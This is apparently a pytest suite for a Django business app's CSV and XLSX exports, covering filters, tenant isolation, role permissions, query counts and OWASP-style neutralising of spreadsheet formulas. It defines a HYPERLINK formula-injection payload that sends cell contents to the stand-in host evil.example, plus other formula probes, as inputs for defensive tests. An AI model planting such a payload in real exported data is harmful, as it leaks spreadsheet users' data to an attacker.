"""Every list downloads as CSV and XLSX, filtered as on screen, safe to open in a spreadsheet."""

import datetime
import io
import zipfile
from decimal import Decimal

import pytest
from django.urls import reverse

from customers.models import Customer
from exports.writers import neutralise

from ..conftest import client_for
from ..factories import CostEntryFactory, CustomerFactory, InteractionFactory, InvoiceFactory, PaymentFactory
from .conftest import body, csv_rows, xlsx_rows, xlsx_sheet

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/steal?d="&A1,"Click")'


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+44 20 7946 0000", "'+44 20 7946 0000"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("Acme Ltd", "Acme Ltd"),
        ("", ""),
    ],
)
def test_neutralise_follows_owasp(text, safe):
    assert neutralise(text) == safe


def test_customers_csv_holds_the_list(world, owner_client, as_dicts):
    CustomerFactory(business=world.a.business, name="Zed Zoo", email="zed@example.com", tags=["vip", "north"])
    rows = as_dicts(csv_rows(owner_client.get(reverse("export_customers"))))
    names = [row["name"] for row in rows]
    assert "Zed Zoo" in names
    zed = next(row for row in rows if row["name"] == "Zed Zoo")
    assert zed["e-mail"] == "zed@example.com"
    assert zed["tags"] == "vip; north"
    assert zed["status"] == "Active"
    assert zed["customer since"] == "2024-01-01"
    assert not any("Beta Bakery" in name for name in names)
    assert len(rows) == Customer.objects.filter(business=world.a.business).count()


def test_customers_export_uses_the_page_filters(world, owner_client, as_dicts):
    CustomerFactory(business=world.a.business, name="Harbour Cafe", tags=["food"])
    CustomerFactory(business=world.a.business, name="Harbour Gym", tags=["sport"])
    rows = as_dicts(csv_rows(owner_client.get(reverse("export_customers"), {"q": "harbour", "tag": "food"})))
    assert [row["name"] for row in rows] == ["Harbour Cafe"]
    rows = as_dicts(csv_rows(owner_client.get(reverse("export_customers"), {"q": "harbour", "sort": "-name"})))
    assert [row["name"] for row in rows] == ["Harbour Gym", "Harbour Cafe"]


def test_formula_customer_opens_as_text_in_csv(world, owner_client, as_dicts):
    CustomerFactory(business=world.a.business, name=EVIL, phone="+1 555 0100")
    rows = as_dicts(csv_rows(owner_client.get(reverse("export_customers"), {"q": "HYPERLINK"})))
    assert rows[0]["name"] == "'" + EVIL
    assert rows[0]["phone"] == "'+1 555 0100"


def test_customers_xlsx_round_trip_with_text_cells_and_numbers(world, owner_client, as_dicts):
    customer = CustomerFactory(business=world.a.business, name=EVIL, email="evil@example.com")
    InvoiceFactory(
        customer=customer,
        issue_date=datetime.date(2025, 1, 1),
        due_date=datetime.date(2025, 1, 31),
        amount=Decimal("1234.56"),
    )
    response = owner_client.get(reverse("export_customers"), {"q": "evil@", "format": "xlsx"})
    sheet = xlsx_sheet(response)
    header = [cell.value for cell in sheet[1]]
    name = sheet.cell(row=2, column=header.index("name") + 1)
    assert name.value == "'" + EVIL
    assert name.data_type == "s"  # text, not a formula
    row = as_dicts(list(sheet.iter_rows(values_only=True)))[0]
    assert row["e-mail"] == "evil@example.com"
    assert row["overdue balance"] == pytest.approx(1234.56)
    assert row["overdue invoices"] == 1
    assert row["customer since"] == datetime.datetime(2024, 1, 1)


def test_customers_export_reads_a_fixed_number_of_queries(world, owner_client, django_assert_max_num_queries):
    def count() -> int:
        with django_assert_max_num_queries(20) as captured:
            body(owner_client.get(reverse("export_customers")))
        return len(captured.captured_queries)

    count()  # the first request also stores the chosen business in the session
    few = count()
    for _ in range(15):
        customer = CustomerFactory(business=world.a.business)
        InteractionFactory(customer=customer)
    assert count() == few
    # session, user, membership, and the one cursor over the customers; the session's renewal (3 with
    # the test's savepoint); the row-level-security settings set, kept for the streamed body and reset
    # (5, accounts/tenancy.py); pghistory naming who acts (3)
    assert few <= 15


def test_invoices_export_for_one_customer_and_a_date_range(world, owner_client, as_dicts):
    customer = CustomerFactory(business=world.a.business, name="Dated Ltd")
    for day in (datetime.date(2025, 3, 1), datetime.date(2025, 4, 1), datetime.date(2025, 5, 1)):
        InvoiceFactory(customer=customer, issue_date=day, number=f"D-{day:%m}", amount=Decimal("100.00"))
    url = reverse("export_invoices")
    rows = as_dicts(
        csv_rows(
            owner_client.get(
                url, {"customer": customer.pk, "from": "2025-03-15", "to": "2025-05-01", "sort": "issue_date"}
            )
        )
    )
    assert [(row["number"], row["issue date"], row["amount"]) for row in rows] == [
        ("D-04", "2025-04-01", "100.00"),
        ("D-05", "2025-05-01", "100.00"),
    ]
    assert rows[0]["customer"] == "Dated Ltd"
    assert rows[0]["status"] == "Overdue"


def test_invoices_xlsx_holds_amounts_as_numbers(world, owner_client, as_dicts):
    rows = as_dicts(xlsx_rows(owner_client.get(reverse("export_invoices"), {"format": "xlsx"})))
    invoice = world.a.objects["invoice"]
    row = next(row for row in rows if row["number"] == invoice.number)
    assert row["amount"] == pytest.approx(float(invoice.amount))
    assert row["amount paid"] == pytest.approx(100.0)
    assert row["issue date"] == datetime.datetime(2025, 1, 1)
    assert not any(row["number"] == world.b.objects["invoice"].number for row in rows)


def test_another_business_customer_in_the_filter_gives_404(world, owner_client):
    for name in ("export_invoices", "export_payments", "export_interactions", "export_cost_entries"):
        response = owner_client.get(reverse(name), {"customer": world.b.objects["customer"].pk})
        assert response.status_code == 404, name


def test_bad_format_and_dates_say_what_to_fix(world, owner_client):
    response = owner_client.get(reverse("export_invoices"), {"format": "pdf"})
    assert response.status_code == 400
    assert "choose csv or xlsx" in response.content.decode()
    response = owner_client.get(reverse("export_payments"), {"from": "31/02/2026"})
    assert response.status_code == 400
    assert "“31/02/2026” is not a date" in response.content.decode()


def test_payments_export(world, staff_client, as_dicts):
    rows = as_dicts(csv_rows(staff_client.get(reverse("export_payments"))))
    payment = world.a.objects["payment"]
    assert [(row["invoice number"], row["date"], row["amount"], row["method"]) for row in rows] == [
        (payment.invoice.number, "2025-01-10", "100.00", "Bank transfer")
    ]


def test_interactions_for_owners_carry_costs_and_for_staff_only_time(world, owner_client, staff_client, as_dicts):
    interaction = world.a.objects["interaction"]
    owner_rows = as_dicts(csv_rows(owner_client.get(reverse("export_interactions"))))
    staff_rows = as_dicts(csv_rows(staff_client.get(reverse("export_interactions"))))
    assert owner_rows[0]["hourly cost"] == "60.00"
    assert owner_rows[0]["staff cost"] == "30.00"
    assert "hourly cost" not in staff_rows[0]
    assert "staff cost" not in staff_rows[0]
    assert staff_rows[0]["minutes"] == str(interaction.duration_minutes)
    assert staff_rows[0]["handled by"] == world.a.staff.user.get_full_name()


def test_interaction_times_are_local_to_the_business(world, owner_client, as_dicts):
    customer = CustomerFactory(business=world.a.business, name="Late Caller")
    # 02:30 UTC on 2 March is 21:30 on 1 March in New York (the factories' zone).
    InteractionFactory(customer=customer, occurred_at=datetime.datetime(2026, 3, 2, 2, 30, tzinfo=datetime.UTC))
    params = {"customer": customer.pk, "from": "2026-03-01", "to": "2026-03-01"}
    rows = as_dicts(csv_rows(owner_client.get(reverse("export_interactions"), params)))
    assert [row["when"] for row in rows] == ["2026-03-01 21:30:00"]
    params = {"customer": customer.pk, "from": "2026-03-02"}
    assert as_dicts(csv_rows(owner_client.get(reverse("export_interactions"), params))) == []


def test_cost_entries_export_for_owners(world, owner_client, staff_client, as_dicts):
    CostEntryFactory(customer=world.a.objects["customer"], kind="discount", amount=Decimal("75.00"), note="-10% deal")
    rows = as_dicts(csv_rows(owner_client.get(reverse("export_cost_entries"), {"format": "csv"})))
    discount = next(row for row in rows if row["kind"] == "Discount given")
    assert (discount["amount"], discount["concession"], discount["note"]) == ("75.00", "yes", "'-10% deal")
    assert staff_client.get(reverse("export_cost_entries")).status_code == 403


def test_whole_business_zip_holds_every_kind_of_record_and_a_readme(world, owner_client):
    response = owner_client.get(reverse("export_business"))
    assert response["Content-Type"] == "application/zip"
    archive = zipfile.ZipFile(io.BytesIO(body(response)))
    assert set(archive.namelist()) == {
        "README.txt",
        "customers.csv",
        "contracts.csv",
        "addenda.csv",
        "invoices.csv",
        "payments.csv",
        "follow_ups.csv",
        "interactions.csv",
        "cost_entries.csv",
        "team.csv",
    }
    readme = archive.read("README.txt").decode()
    assert "Alpha Plumbing" in readme
    assert "invoices.csv: Invoices" in readme
    assert "  - balance: amount less amount paid" in readme
    customers = archive.read("customers.csv").decode("utf-8-sig").splitlines()
    assert customers[0].startswith("id,name,")
    assert len(customers) == 1 + Customer.objects.filter(business=world.a.business).count()
    team = archive.read("team.csv").decode("utf-8-sig")
    assert world.a.owner.user.email in team
    assert world.b.owner.user.email not in team
    assert "hourly cost" in archive.read("interactions.csv").decode("utf-8-sig").splitlines()[0]


def test_staff_cannot_download_the_whole_business(world, staff_client):
    assert staff_client.get(reverse("export_business")).status_code == 403


@pytest.mark.parametrize(
    "name", ["export_customers", "export_invoices", "export_payments", "export_interactions", "export_business"]
)
def test_downloads_refuse_post_with_405(world, owner_client, name):
    assert owner_client.post(reverse(name)).status_code == 405


def test_staff_customer_export_is_what_staff_see(world, as_dicts):
    rows = as_dicts(csv_rows(client_for(world.a.staff).get(reverse("export_customers"))))
    assert {"verdict", "profit", "hourly cost"}.isdisjoint(rows[0])


LISTS = ["export_customers", "export_invoices", "export_payments", "export_interactions", "export_cost_entries"]


@pytest.mark.parametrize("name", LISTS)
def test_csv_and_xlsx_hold_the_same_table(world, owner_client, name):
    from_csv = csv_rows(owner_client.get(reverse(name)))
    from_xlsx = xlsx_rows(owner_client.get(reverse(name), {"format": "xlsx"}))
    assert from_csv[0] == list(from_xlsx[0])
    assert len(from_csv) == len(from_xlsx) >= 2
    for text, value in zip(from_csv[1], from_xlsx[1], strict=True):
        if isinstance(value, datetime.datetime):
            assert text.startswith(value.date().isoformat())
        elif isinstance(value, float | int) and not isinstance(value, bool):
            assert Decimal(text) == pytest.approx(Decimal(str(value)))
        else:
            assert text == (value or "")


@pytest.mark.parametrize("name", [*LISTS, "export_business"])
def test_every_download_reads_a_fixed_number_of_queries(world, owner_client, django_assert_max_num_queries, name):
    def count() -> int:
        with django_assert_max_num_queries(40) as captured:
            body(owner_client.get(reverse(name), {"format": "xlsx"} if name != "export_business" else {}))
        return len(captured.captured_queries)

    count()  # the first request also stores the chosen business in the session
    few = count()
    for n in range(10):
        customer = CustomerFactory(business=world.a.business)
        invoice = InvoiceFactory(customer=customer, issue_date=datetime.date(2025, 2, 1), number=f"Q-{n}")
        PaymentFactory(invoice=invoice, date=datetime.date(2025, 2, 2))
        InteractionFactory(customer=customer)
        CostEntryFactory(customer=customer)
    assert count() == few
